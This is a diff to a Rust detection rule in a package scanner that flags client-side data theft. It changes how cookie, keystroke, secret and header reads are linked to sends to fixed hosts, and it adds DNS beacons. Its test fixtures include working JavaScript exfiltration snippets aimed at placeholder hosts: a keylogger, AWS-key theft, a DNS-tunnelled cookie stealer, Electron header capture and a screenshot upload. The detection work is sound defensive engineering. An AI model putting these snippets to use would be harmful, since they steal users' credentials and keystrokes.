@@ -15,11 +15,14 @@ crate::declare_rule! {
     /// request, beacon, image, socket, datagram or upload whose destination is a literal URL, host
     /// or public IP that is not loopback or private: a library's own endpoint is configured by
     /// its user, while a thief carries its collector with it. Critical when the source and the
-    /// send sit in the same function (or both run when the file loads); a weak source (screen,
-    /// clipboard, fields, a secret pattern) needs a second source or the machine's identity
-    /// there too. When they only share the file, two kinds of strong source are needed: critical
-    /// in a file the package's entry loads (the import-time context), medium elsewhere. Analytics SDKs read their own cookie by name
-    /// and persist libraries walk storage without a fixed destination: neither matches.
+    /// send sit in the same function, or the source's function feeds the sending one (calls it
+    /// by name, or fills a top-level buffer it reads); callbacks belong to the function that
+    /// registers them, and the top level (with its IIFEs) is one more function. A weak source
+    /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
+    /// identity there too, else high; secret-named environment variables count only three or
+    /// more at once. Analytics SDKs read their own cookie by name, persist libraries walk
+    /// storage towards an address their caller gives, Electron cookie managers export to a file:
+    /// none matches.
     id: "client-data-theft",
     category: Data,
     severity: High,
@@ -33,6 +36,8 @@ crate::declare_rule! {
         "const SID = /session|token|jwt/i\nconst sock = require('dgram').createSocket('udp4')\nfunction diag(obj) { const hits = []; for (const k in obj) if (SID.test(k)) hits.push(k + '=' + obj[k]); const m = Buffer.from(require('os').hostname() + hits.join(';')); sock.send(m, 0, m.length, 514, '198.51.100.4') }",
         "document.addEventListener('keydown', (e) => { buf.push(e.key); if (buf.length > 50) { new Image().src = 'https://k.example.net/c?d=' + encodeURIComponent(buf.join('')); buf = [] } })",
         "async function snap() { const env = process.env; const out = [env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN]; const req = https.request('https://hooks.example.com/x', { method: 'POST' }); req.end(JSON.stringify(out)) }\nsnap()",
+        "const queue = [];\nfunction hook(ses) { ses.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (d, cb) => { queue.push(d.requestHeaders); cb({}) }) }\nfunction flush() { const r = net.request({ method: 'POST', url: 'https://c.example.org/b' }); r.end(JSON.stringify(queue.splice(0))) }",
+        "const dns = require('dns')\nfunction beacon(p) { dns.resolve4(Buffer.from(p).toString('hex') + '.q.example.net', () => {}) }\nmodule.exports = (req, res, next) => { const jar = String(req.headers.cookie).split(';').filter((kv) => /sess|token|jwt/.test(kv)); beacon(jar.join(';') + require('os').hostname()); next() }",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
     ],
     pass: [
@@ -40,6 +45,7 @@ crate::declare_rule! {
         "function persist() { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k) } return fetch(options.endpoint, { method: 'POST', body: JSON.stringify(out) }) }",
         "document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) openPalette() })\nfunction load() { return fetch('https://cdn.example.com/icons.json') }",
         "async function release() { return fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ tag: process.env.TAG }) }) }",
+        "async function exportCookies() { const all = await session.defaultSession.cookies.get({}); fs.writeFileSync(file, JSON.stringify(all)) }\nfunction addHeaders(h) { session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['https://api.app.example/*'] }, (d, cb) => cb({ requestHeaders: Object.assign(d.requestHeaders, h) })) }\nasync function latest() { return (await fetch('https://updates.example.com/latest.json')).json() }",
         "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
     ],
@@ -151,9 +157,12 @@ fn sources(f: &FileCtx) -> Vec<Src> {
             true,
         ),
         (
-            crate::regex!(
-                r#"(?i)type\s*=\s*\\?['"]?password|querySelectorAll\(\s*['"`][^'"`]*\binput\b"#
-            ),
+            crate::regex!(r#"(?i)type\s*=\s*\\?['"]?password"#),
+            "password fields",
+            false,
+        ),
+        (
+            crate::regex!(r#"querySelectorAll\(\s*['"`][^'"`]*\binput\b"#),
             "form fields",
             false,
         ),
@@ -197,6 +206,22 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
     let words = crate::regex!(
         r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
     );
+    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\.test\(");
+    for c in inline.captures_iter(text).take(8) {
+        let Some(body) = c.get(1) else { continue };
+        let kinds: std::collections::HashSet<String> = words
+            .find_iter(body.as_str())
+            .map(|m| m.as_str().to_ascii_lowercase())
+            .collect();
+        if kinds.len() >= 2 {
+            out.push(Src {
+                off: body.start() as u32,
+                kind: "values matching a secret pattern",
+                strong: false,
+                name: String::new(),
+            });
+        }
+    }
     for c in secret_re.captures_iter(text).take(8) {
         let (Some(name), Some(body)) = (c.get(1), c.get(2)) else {
             continue;
@@ -246,11 +271,11 @@ fn foreign_host(host: &str) -> bool {
 /// quoted public IP.
 fn destinations(f: &FileCtx) -> Vec<(u32, String)> {
     let re = crate::regex!(
-        r#"['"`](?:https?|wss?|ftp)://([^/'"`\s:?#@]+)|\bhost(?:name)?\s*:\s*['"`]([A-Za-z0-9.-]+)['"`]|['"`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})['"`]"#
+        r#"['"`](?:https?|wss?|ftp)://([^/'"`\s:?#@]+)|\bhost(?:name)?\s*:\s*['"`]([A-Za-z0-9.-]+)['"`]|['"`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})['"`]|['"`]\.((?:[a-z0-9-]+\.)+[a-z]{2,})['"`]"#
     );
     let mut out = Vec::new();
     for c in re.captures_iter(&f.text).take(256) {
-        let Some(h) = c.get(1).or(c.get(2)).or(c.get(3)) else {
+        let Some(h) = c.get(1).or(c.get(2)).or(c.get(3)).or(c.get(4)) else {
             continue;
         };
         if foreign_host(h.as_str()) {
@@ -258,6 +283,33 @@ fn destinations(f: &FileCtx) -> Vec<(u32, String)> {
         }
     }
     out
+}
+
+/// Whether a call's folded arguments or `url`/`host` options name a foreign host.
+fn folded_foreign(c: &crate::js::Call) -> bool {
+    (0..c.args.len())
+        .filter_map(|i| c.arg_lit(i))
+        .chain(["url", "host", "hostname"].iter().filter_map(|k| c.opt(k)))
+        .any(|v| {
+            let h = v
+                .split_once("://")
+                .map_or(v, |(_, r)| r)
+                .split(['/', ':', '?', '#'])
+                .next()
+                .unwrap_or("");
+            foreign_host(h)
+        })
+}
+
+/// Whether the send at `off` goes to an address fixed in the code: its call names a foreign
+/// host, or one is written in the same function. For other rules judging a flow's sink.
+pub(crate) fn fixed_destination(f: &FileCtx, off: u32) -> bool {
+    let Some(js) = &f.js else { return false };
+    let scope = js.scope_of(off);
+    js.calls.iter().any(|c| c.off == off && folded_foreign(c))
+        || destinations(f)
+            .iter()
+            .any(|(o, _)| js.scope_of(*o) == scope)
 }
 
 /// Whether a call sends data somewhere.
@@ -283,8 +335,93 @@ fn is_send(path: &str) -> bool {
             | "open"
             | "connect"
             | "createConnection"
+            | "lookup"
+            | "resolve"
+            | "resolve4"
+            | "resolve6"
+            | "resolveTxt"
+            | "resolveAny"
     ) || path == "Image"
         || path == "WebSocket"
+}
+
+/// The text of a unit (a function, or the top level when `None`).
+fn unit_text(text: &str, sc: Option<(u32, u32)>) -> &str {
+    match sc {
+        Some((s, e)) => text
+            .get(s as usize..(e as usize).min(text.len()))
+            .unwrap_or(""),
+        None => text,
+    }
+}
+
+/// The name a function is called by: `function NAME(`, `NAME = (…) =>`, `NAME(…) {`.
+fn unit_name(text: &str, sc: Option<(u32, u32)>) -> Option<&str> {
+    let (s, _) = sc?;
+    let body = text.get(s as usize..(s as usize + 80).min(text.len()))?;
+    let decl = crate::regex!(r"^(?:async\s+)?function\s*\*?\s*([A-Za-z_$][\w$]*)");
+    if let Some(c) = decl.captures(body) {
+        return c.get(1).map(|m| m.as_str());
+    }
+    let before = text.get((s as usize).saturating_sub(60)..s as usize)?;
+    let assigned = crate::regex!(r"([A-Za-z_$][\w$]*)\s*[=:]\s*(?:async\s*)?$");
+    assigned
+        .captures(before)
+        .and_then(|c| c.get(1))
+        .map(|m| m.as_str())
+}
+
+/// Whether data of the `src` unit reaches the `send` unit: the source's unit calls the sending
+/// function by name (`beacon(jar)`), or fills a top-level buffer (`queue.push(…)`) the sending
+/// function reads.
+fn linked(
+    js: &crate::js::JsFacts,
+    text: &str,
+    src: Option<(u32, u32)>,
+    send: Option<(u32, u32)>,
+) -> bool {
+    if src == send {
+        return true;
+    }
+    // Offsets of `needle` written in the source's own unit (not in functions nested in it).
+    let in_src = |needle: &str| -> Vec<usize> {
+        let (base, body) = match src {
+            Some((s, _)) => (s as usize, unit_text(text, src)),
+            None => (0, text),
+        };
+        body.match_indices(needle)
+            .map(|(i, _)| base + i)
+            .filter(|i| js.scope_of(*i as u32) == src)
+            .take(16)
+            .collect()
+    };
+    if let Some(name) = unit_name(text, send)
+        && name.len() > 1
+        && in_src(name).into_iter().any(|i| {
+            let before = text[..i].trim_end();
+            let prev = text[..i].chars().next_back();
+            let after = &text[i + name.len()..];
+            !prev.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.')
+                && !before.ends_with("function")
+                && after.trim_start().starts_with('(')
+        })
+    {
+        return true;
+    }
+    let buffers = crate::regex!(
+        r"(?m)^(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:\[|\{|new\s+(?:Map|Set|Array)\b)"
+    );
+    let send_text = unit_text(text, send);
+    buffers.captures_iter(text).take(32).any(|c| {
+        let Some(n) = c.get(1).map(|m| m.as_str()) else {
+            return false;
+        };
+        n.len() > 1
+            && [".push(", ".set(", ".add(", ".unshift("]
+                .iter()
+                .any(|op| !in_src(&format!("{n}{op}")).is_empty())
+            && send_text.contains(n)
+    })
 }
 
 /// The machine's identity read next to the source (a stealer tags its loot).
@@ -314,26 +451,14 @@ fn check(pkg: &Package, out: &mut Emitter) {
             .filter(|c| is_send(&c.path))
             .filter_map(|c| {
                 let scope = js.scope_of(c.off);
-                let folded = (0..c.args.len())
-                    .filter_map(|i| c.arg_lit(i))
-                    .chain(["url", "host", "hostname"].iter().filter_map(|k| c.opt(k)))
-                    .any(|v| {
-                        let h = v
-                            .split_once("://")
-                            .map_or(v, |(_, r)| r)
-                            .split(['/', ':', '?', '#'])
-                            .next()
-                            .unwrap_or("");
-                        foreign_host(h)
-                    });
                 let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
-                (folded || local).then_some((c.off, scope))
+                (folded_foreign(c) || local).then_some((c.off, scope))
             })
             .collect();
         // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
         // found in the text: a fixed destination must sit in the same function.
         let text_sends = crate::regex!(
-            r"\.(?:send|sendBeacon|sendMail|write|end|request|post|put|upload|uploadFrom|open|connect)\s*\(|\bfetch\s*\(|\bnew\s+(?:Image|WebSocket)\b|\.src\s*=[^=]"
+            r"\.(?:send|sendBeacon|sendMail|write|end|request|post|put|upload|uploadFrom|open|connect|lookup|resolve|resolve4|resolve6|resolveTxt)\s*\(|\bfetch\s*\(|\bnew\s+(?:Image|WebSocket)\b|\.src\s*=[^=]"
         );
         let by_text: Vec<(u32, Option<(u32, u32)>)> = if dests.is_empty() {
             Vec::new()
@@ -368,7 +493,10 @@ fn check(pkg: &Package, out: &mut Emitter) {
             }
             let here: Vec<&Src> = srcs
                 .iter()
-                .filter(|s| js.scope_of(s.off) == *scope)
+                .filter(|s| {
+                    let sc = js.scope_of(s.off);
+                    sc == *scope || !too_big(sc) && linked(js, &f.text, sc, *scope)
+                })
                 .collect();
             if here.is_empty() {
                 continue;
@@ -402,31 +530,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
                     sev,
                     *send_off,
                     format!(
-                        "sends {} to a fixed address from the same function",
-                        what.join(", ")
-                    ),
-                ));
-            }
-        }
-        if best.is_none() {
-            // Only the file in common: two kinds of strong source, gathered in one place and
-            // sent from another (a queue flushed by a timer).
-            let strong: Vec<&Src> = srcs.iter().filter(|s| s.strong).collect();
-            let kinds: std::collections::BTreeSet<&str> = strong.iter().map(|s| s.kind).collect();
-            if let Some(first) = strong.first()
-                && kinds.len() >= 2
-            {
-                let sev = if pkg.is_entry_file(f) {
-                    Severity::Critical
-                } else {
-                    Severity::Medium
-                };
-                let what: Vec<&str> = kinds.into_iter().collect();
-                best = Some((
-                    sev,
-                    first.off,
-                    format!(
-                        "reads {} in a file that sends to a fixed address",
+                        "sends {} to a fixed address from the same function or one it feeds",
                         what.join(", ")
                     ),
                 ));
